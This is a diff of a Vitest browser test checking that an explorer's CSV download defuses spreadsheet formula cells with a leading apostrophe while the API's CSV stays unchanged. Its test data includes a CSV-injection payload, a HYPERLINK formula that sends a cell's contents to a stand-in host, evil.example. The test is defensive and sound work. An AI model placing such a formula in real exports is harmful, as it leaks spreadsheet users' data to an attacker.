@@ -8,7 +8,8 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { type ApiInBrowser, openApiInBrowser } from "./support/browser_api.ts";
 import { needs } from "./support/services.ts";
 
-const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1"];
+// (A product starting with a tab cannot be typed into the page, which trims it: csv_formulas.test.ts has it.)
+const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+1", "-2+3", "@SUM(1,2)"];
 const QUERY = "startTimestamp=2016-02-01%2010:00:00&endTimestamp=2016-02-01%2012:00:00&aggregation=60";
 
 let opened: ApiInBrowser | undefined;
@@ -28,24 +29,21 @@ describe("the explorer's CSV download in Chromium", needs("chromium"), () => {
   it("neutralises cells that start a formula; the API's CSV stays exact", async () => {
     if (!opened) throw new Error("not started");
     const { server, browser } = opened;
-    const api = await (await fetch(`${server.url}/ctr?${QUERY}`, { headers: { Accept: "text/csv" } })).text();
-    for (const product of FORMULAS) expect(api).toContain(`"${product.replaceAll('"', '""')}"`);
-
     const page = await browser.context.newPage();
-    await page.goto(`${server.url}/explore?${QUERY}`);
-    await page.waitForSelector("#results:not([hidden]) #rows tbody tr");
-    const [download] = await Promise.all([page.waitForEvent("download"), page.click("#download-csv")]);
-    const csv = readFileSync(await download.path(), "utf8");
-
-    // The API's text with a `'` opening each formula cell, and nothing else changed.
-    let expected = api;
     for (const product of FORMULAS) {
+      const query = `${QUERY}&product=${encodeURIComponent(product)}`;
+      const api = await (await fetch(`${server.url}/ctr?${query}`, { headers: { Accept: "text/csv" } })).text();
       const cell = product.replaceAll('"', '""');
-      expected = expected.replace(`"${cell}"`, `"'${cell}"`);
+      expect(api).toContain(`"${cell}"`);
+
+      await page.goto(`${server.url}/explore?${query}`);
+      await page.waitForSelector("#results:not([hidden]) #rows tbody tr, #error:not([hidden])");
+      expect(await page.isHidden("#error"), `${product}: ${await page.textContent("#error")}`).toBe(true);
+      const [download] = await Promise.all([page.waitForEvent("download"), page.click("#download-csv")]);
+      const csv = readFileSync(await download.path(), "utf8");
+      // The API's text with a `'` opening the formula cell, and nothing else changed.
+      expect(csv, product).toBe(api.replace(`"${cell}"`, `"'${cell}"`));
     }
-    expect(csv).toBe(expected);
-    expect(csv).toContain('"PLAIN-1"');
-    expect(csv.split("\n").filter((line) => line !== "")).toHaveLength(FORMULAS.length + 2);
     await page.close();
   });
 });
